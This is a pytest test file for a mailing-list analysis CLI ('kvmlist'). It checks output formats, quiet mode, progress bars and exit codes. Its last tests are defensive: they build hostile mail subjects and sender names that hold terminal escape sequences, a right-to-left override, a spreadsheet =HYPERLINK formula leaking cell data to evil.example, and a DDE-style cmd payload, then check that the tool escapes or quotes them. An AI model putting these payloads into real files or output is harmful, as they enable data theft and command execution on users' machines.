"""Where results go: --format (parquet too), -o FILE, --quiet, progress bars and exit codes."""

from __future__ import annotations

import argparse
import io
import itertools
import json
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

import kvmlist
from kvmlist.cli import raw as check_command
from kvmlist.cli.commands import main
from kvmlist.cli.loading import wants_progress, with_progress

from .conftest import FIXTURES, mail, mbox
from .inbox_builder import build_epoch

SAMPLE = str(FIXTURES / "kvm-sample.mbox")


class Terminal(io.StringIO):
    """A stderr that says it is a terminal."""

    def isatty(self) -> bool:
        return True


def stats_json(*argv: str, capsys: pytest.CaptureFixture[str]) -> list[dict[str, object]]:
    assert main(["stats", SAMPLE, *argv, "--format", "json"]) == 0
    rows: list[dict[str, object]] = json.loads(capsys.readouterr().out)
    return rows


@pytest.mark.parametrize("by", ["author", "domain", "organisation"])
def test_stats_parquet_reads_back_equal_to_the_json_stats(
    by: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    export = pytest.importorskip("kvmlist.outputs.export")
    pytest.importorskip("pyarrow")
    out = tmp_path / "stats.parquet"
    assert main(["stats", SAMPLE, "--by", by, "--format", "parquet", "-o", str(out)]) == 0
    frame = export.read_parquet(out)
    assert list(frame.columns) == [by, "count"]
    assert frame.to_dict("records") == stats_json("--by", by, capsys=capsys)


def test_series_parquet_has_one_typed_row_per_series(tmp_path: Path) -> None:
    export = pytest.importorskip("kvmlist.outputs.export")
    pytest.importorskip("pyarrow")
    out = tmp_path / "series.parquet"
    assert main(["series", SAMPLE, "--format", "parquet", "-o", str(out)]) == 0
    frame = export.read_parquet(out)
    series = kvmlist.group_series(kvmlist.read_mbox(SAMPLE))
    assert list(frame["title"]) == [s.title for s in series]
    assert str(frame["first_date"].dtype) == "datetime64[ns, UTC]"
    assert frame["missing"].tolist()[2] == "3"


@pytest.mark.parametrize("command", ["stats", "series"])
def test_parquet_without_an_output_file_is_a_usage_error(
    command: str, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main([command, SAMPLE, "--format", "parquet"]) == 2
    err = capsys.readouterr().err
    assert err == "kvmlist: --format parquet writes a file: add -o FILE.parquet\n"


def test_parquet_is_refused_before_the_source_is_read(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["stats", "/nonexistent/list.mbox", "--format", "parquet"]) == 2
    assert "add -o FILE.parquet" in capsys.readouterr().err


@pytest.mark.parametrize(
    ("argv", "expected"),
    [
        (["report", SAMPLE], "KVM"),
        (["series", SAMPLE, "--format", "csv"], '"version","present","total"'),
        (["stats", SAMPLE, "--by", "domain"], "arm.com"),
        (["review", SAMPLE], "reviewer"),
        (["check", SAMPLE], "mails in"),
    ],
)
def test_output_option_writes_the_file_and_nothing_to_stdout(
    argv: list[str], expected: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "result.txt"
    assert main([*argv, "-o", str(out)]) == 0
    assert expected in out.read_text()
    assert capsys.readouterr().out == ""


def test_check_exits_1_when_mails_are_lost(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    parse_all = check_command.parse_raw
    monkeypatch.setattr(
        check_command, "parse_raw", lambda raws: parse_all(itertools.islice(raws, 1, None))
    )
    assert main(["check", SAMPLE]) == 1
    assert "(1 LOST)" in capsys.readouterr().out


def test_check_exits_0_when_every_mail_came_out(tmp_path: Path) -> None:
    # defects alone (no Message-ID, an unreadable Date) are no failure; broken.mbox's mail
    # the file's end cuts inside its header is (test_check)
    odd = mail(message_id=None, date="yesterday")
    path = tmp_path / "odd.mbox"
    path.write_bytes(mbox(odd, mail(message_id="<2@example.org>")))
    assert main(["check", str(path), "-q"]) == 0


@pytest.mark.parametrize("where", ["before", "after"])
def test_quiet_is_accepted_before_or_after_the_command(
    where: str, capsys: pytest.CaptureFixture[str]
) -> None:
    argv = ["stats", SAMPLE, "--by", "domain", "--top", "1"]
    argv = ["-q", *argv] if where == "before" else [*argv, "--quiet"]
    assert main(argv) == 0
    assert capsys.readouterr() == ("domain   count\narm.com  7\n", "")


@pytest.fixture
def inbox(tmp_path: Path) -> Path:
    """A public-inbox v2 archive whose two mails arrived in March 2026."""
    path = tmp_path / "inbox"
    (path / "git").mkdir(parents=True)
    build_epoch(
        path / "git" / "0.git",
        [
            ("m", mail(message_id="<1@x>"), 1772532000),
            ("m", mail("[PATCH] KVM: x86: two", message_id="<2@x>"), 1772535600),
        ],
    )
    return path


def test_a_note_goes_to_stderr_and_quiet_silences_it(
    inbox: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    argv = ["report", "--inbox", str(inbox), "--since", "2030-01-01"]
    assert main(argv) == 0
    assert capsys.readouterr() == ("", "kvmlist: no mail arrived in that range\n")
    assert main(["--quiet", *argv]) == 0
    assert capsys.readouterr() == ("", "")


def test_errors_still_print_when_quiet(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["-q", "stats", "/nonexistent/list.mbox"]) == 2
    assert "no such file" in capsys.readouterr().err


@pytest.mark.parametrize(
    ("quiet", "stream", "expected"),
    [
        (False, Terminal(), True),
        (True, Terminal(), False),
        (False, io.StringIO(), False),  # piped or redirected: no bar
        (True, io.StringIO(), False),
    ],
)
def test_progress_bar_only_on_a_terminal_and_not_when_quiet(
    quiet: bool, stream: io.StringIO, expected: bool
) -> None:
    assert wants_progress(argparse.Namespace(quiet=quiet), stream) is expected


def test_progress_bar_counts_the_mails_it_passes_on_and_goes_away(tmp_path: Path) -> None:
    archive = tmp_path / "three.mbox"
    archive.write_bytes(mbox(*(mail(message_id=f"<{n}@x>") for n in range(3))))

    def slowly(messages: Iterator[kvmlist.Message]) -> Iterator[kvmlist.Message]:
        for message in messages:  # slower than the bar's refresh interval (0.1 s)
            time.sleep(0.15)
            yield message

    screen = Terminal()
    read = list(with_progress(slowly(kvmlist.read_mbox(archive)), enabled=True, stream=screen))
    assert [m.message_id for m in read] == ["0@x", "1@x", "2@x"]
    drawn = screen.getvalue().split("\r")
    assert any(line.startswith("reading: 2 mails") for line in drawn)
    assert drawn[-2].strip() == ""  # erased at the end: the result stays alone on screen


@pytest.mark.parametrize(
    ("argv", "phase"),
    [
        (["series", SAMPLE], "grouping: "),  # replies read for reviews, after the reading
        (["stats", SAMPLE, "--workers", "2"], "counting: "),  # mails back from the workers
    ],
)
def test_long_phases_draw_their_own_bar_on_a_terminal(
    argv: list[str], phase: str, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    assert main(["-q", *argv]) == 0
    quiet = capsys.readouterr().out
    screen = Terminal()
    monkeypatch.setattr(sys, "stderr", screen)
    assert main(argv) == 0
    assert capsys.readouterr().out == quiet  # the bar changes nothing of the result
    assert any(line.startswith(phase) for line in screen.getvalue().split("\r"))


def test_no_progress_bar_writes_nothing(tmp_path: Path) -> None:
    screen = Terminal()
    assert list(with_progress(iter("abc"), enabled=False, stream=screen)) == ["a", "b", "c"]
    assert screen.getvalue() == ""


def test_a_piped_run_draws_no_progress_bar_on_a_large_read(tmp_path: Path) -> None:
    archive = tmp_path / "many.mbox"
    archive.write_bytes(mbox(*(mail(message_id=f"<{n}@x>") for n in range(300))))
    done = subprocess.run(
        [sys.executable, "-m", "kvmlist", "stats", str(archive), "--by", "domain"],
        capture_output=True,
        text=True,
        check=True,
    )
    assert done.stderr == ""
    assert done.stdout.split() == ["domain", "count", "example.org", "300"]


# a hostile sender's escape sequences: clear the screen, set the window title, paint red;
# backspaces that hide what came before; a right-to-left override ("Trojan Source")
HOSTILE_SUBJECT = (
    "[PATCH 1/1] KVM: x86: =?utf-8?q?Fix_=1B[2J=1B]0;owned=07_it=1B[31m_now=08=08=08ok?="
)
HOSTILE_NAME = "=?utf-8?q?Eve_Mallory_=E2=80=AEmoc.elgoog?= <eve@evil.example>"
SHOWN_TITLE = "KVM: x86: Fix \\x1b[2J\\x1b]0;owned\\x07 it\\x1b[31m now\\x08\\x08\\x08ok"


@pytest.mark.parametrize(
    "argv",
    [
        ["series"],
        ["stats", "--by", "author"],
        ["report"],
        ["series", "--format", "csv"],
        ["stats", "--by", "author", "--format", "csv"],
    ],
)
def test_no_control_character_of_a_mail_reaches_the_terminal(
    argv: list[str], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "hostile.mbox"
    path.write_bytes(mbox(mail(HOSTILE_SUBJECT, sender=HOSTILE_NAME)))
    message = next(iter(kvmlist.read_mbox(path)))  # the model keeps what was sent
    assert "\x1b]0;owned\x07" in message.subject and "\u202e" in str(message.sender)
    assert "\x08" in message.subject
    assert main([argv[0], str(path), *argv[1:]]) == 0
    out = capsys.readouterr().out
    assert not [c for c in out if (ord(c) < 32 and c not in "\n") or 0x7F <= ord(c) < 0xA0]
    assert "\u202e" not in out and "Eve Mallory \\u202emoc.elgoog" in out
    assert SHOWN_TITLE in out or argv[0] == "stats"


def test_json_keeps_the_exact_text_and_shows_none_of_it_raw(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "hostile.mbox"
    path.write_bytes(mbox(mail(HOSTILE_SUBJECT, sender=HOSTILE_NAME)))
    assert main(["stats", str(path), "--by", "author", "--format", "json"]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\u202e" not in out and "\r" not in out
    [row] = json.loads(out)
    assert row["author"] == "Eve Mallory \u202emoc.elgoog <eve@evil.example>"


def test_an_error_quoting_what_it_was_given_shows_no_control_character(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["stats", str(tmp_path / "no\x1b]0;owned\x07.mbox")]) == 2
    err = capsys.readouterr().err
    assert "\x1b" not in err and "\x07" not in err and "no\\x1b]0;owned\\x07.mbox" in err


def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_quoted(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # a subject or name that starts like a formula runs in a spreadsheet opening the CSV
    import csv

    subject = '[PATCH] =HYPERLINK("https://evil.example/?"&A1,"fix")'
    path = tmp_path / "formula.mbox"
    path.write_bytes(mbox(mail(subject, sender="@SUM(1+1) <eve@evil.example>")))
    assert main(["series", str(path), "--format", "csv"]) == 0
    [row] = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert row["title"] == "'" + subject.removeprefix("[PATCH] ")
    assert row["author"] == "'@SUM(1+1) <eve@evil.example>" and row["version"] == "1"
    assert main(["series", str(path), "--format", "json"]) == 0  # data formats: as sent
    assert json.loads(capsys.readouterr().out)[0]["title"] == subject.removeprefix("[PATCH] ")


@pytest.mark.parametrize("separator", [";", "\t", "|"])
def test_csv_read_with_another_separator_shows_no_formula_cell(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], separator: str
) -> None:
    # Excel in de, fr, nl or it locales splits a CSV at ";": an unquoted "x;=cmd" is a formula
    import csv

    subject = "[PATCH] KVM: x;=cmd|' /C calc'!A0"
    path = tmp_path / "separator.mbox"
    path.write_bytes(mbox(mail(subject, sender="Eve2;=1+1;x <eve@evil.example>")))
    assert main(["series", str(path), "--format", "csv"]) == 0
    text = capsys.readouterr().out
    for row in csv.reader(io.StringIO(text), delimiter=separator):
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row), row
    [row] = list(csv.DictReader(io.StringIO(text)))  # read with "," as written
    assert row["title"] == "KVM: x;'=cmd|' /C calc'!A0"
    assert row["author"] == "Eve2;'=1+1;x <eve@evil.example>"


def test_a_table_is_aligned_as_shown_with_its_control_characters_escaped(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "hostile.mbox"
    bob = "Bob Plain <bob@example.org>"
    plain = mail("[PATCH] KVM: x86: Fix it", sender=bob, message_id="<2@example.org>")
    path.write_bytes(mbox(mail(HOSTILE_SUBJECT, sender=HOSTILE_NAME), plain))
    assert main(["stats", str(path), "--by", "author"]) == 0
    header, *rows = capsys.readouterr().out.splitlines()
    column = header.index("count")
    assert len(rows) == 2 and "\\u202e" in rows[0]  # escaped: 6 characters wide, not 1
    assert all(row[column - 2 : column] == "  " and row[column:] == "1" for row in rows)
